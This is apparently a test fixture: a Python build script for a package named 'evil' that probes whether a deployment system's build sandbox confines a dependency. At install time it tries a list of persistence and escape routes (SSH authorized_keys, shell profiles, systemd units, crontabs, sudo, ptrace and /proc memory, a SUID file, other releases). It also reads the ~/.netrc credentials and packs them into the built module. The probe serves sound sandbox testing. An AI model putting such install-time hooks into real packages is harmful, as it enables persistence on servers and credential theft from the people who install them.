"""The build script of a dependency that tries to stay. What became of each attempt goes into the package."""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess

from setuptools import setup

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Callable, Iterator

HOME = os.path.expanduser('~deploy')
VICTIM = int(open('/srv/shop/shared/victim').read())
RELEASE, ENVIRONMENT = os.environ['LANDFALL_RELEASE'], os.environ.get('ANOTHER', '0000000000000000')


def append(path: str) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'a') as file:
        file.write('# evil\n')


def connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)


def runs(*argv: str, said: str = '') -> None:
    subprocess.run(
        argv,
        input=said.encode(),
        check=True,
        timeout=10,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def attach() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, VICTIM, None, None) != 0:
        raise OSError(ctypes.get_errno(), 'ptrace')


def become_another() -> None:
    append('/tmp/suid')
    os.chmod('/tmp/suid', 0o4755)


ATTEMPTS: dict[str, Callable[[], object]] = {
    'a key': lambda: append(HOME + '/.ssh/authorized_keys'),
    'a shell profile': lambda: append(HOME + '/.bashrc'),
    'a user unit': lambda: append(HOME + '/.config/systemd/user/evil.service'),
    'lingering': lambda: runs('loginctl', 'enable-linger', 'deploy'),
    'lingering by hand': lambda: append('/var/lib/systemd/linger/deploy'),
    'a unit of the user manager': lambda: runs('systemd-run', '--user', '--collect', 'sleep', '1001'),
    'a unit of the system manager': lambda: runs('systemd-run', '--collect', 'sleep', '1001'),
    'a file of /run/user': lambda: append(f'/run/user/{os.getuid()}/evil'),
    'the socket of D-Bus': lambda: connect('/run/dbus/system_bus_socket'),
    'the socket of systemd': lambda: connect('/run/systemd/private'),
    'the socket of the user bus': lambda: connect(f'/run/user/{os.getuid()}/bus'),
    'a crontab': lambda: runs('crontab', '-', said='* * * * * true\n'),
    'a crontab by hand': lambda: append('/var/spool/cron/crontabs/deploy'),
    'an at job': lambda: runs('at', 'now + 1 hour', said='true\n'),
    'the helper as root': lambda: runs('sudo', '-n', '/usr/local/lib/landfall/landfall-host', said='{}\n'),
    'another release': lambda: append('/srv/shop/releases/evil/main.py'),
    'its own release': lambda: append(f'/srv/shop/releases/{RELEASE}/main.py'),
    'another environment': lambda: append(f'/srv/shop/venvs/{ENVIRONMENT}/evil.pth'),
    'the folder of environments': lambda: os.mkdir('/srv/shop/venvs/evil'),
    'the link to the live release': lambda: append('/srv/shop/current/evil'),
    'memory of the same user': lambda: open(f'/proc/{VICTIM}/mem', 'r+b'),
    'tracing of the same user': attach,
    'a control group': lambda: os.mkdir('/sys/fs/cgroup/evil'),
    'a program of another user': become_another,
}


def outcomes() -> Iterator[tuple[str, str]]:
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            yield name, 'done'
        except Exception as error:
            yield name, f'refused: {error}'


for path in ('/tmp/evil-left', '/var/tmp/evil-left', '/dev/shm/evil-left'):
    append(path)  # allowed, and gone with the job
subprocess.Popen(
    ['sleep', '1001'],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
found = dict(outcomes())
found['configuration'] = open(HOME + '/.netrc').read().strip()
with open('evil_found.py', 'w') as file:
    file.write(f'FOUND = {json.dumps(found)!r}\n')
setup(name='evil', version='1.0', py_modules=['evil_found'])
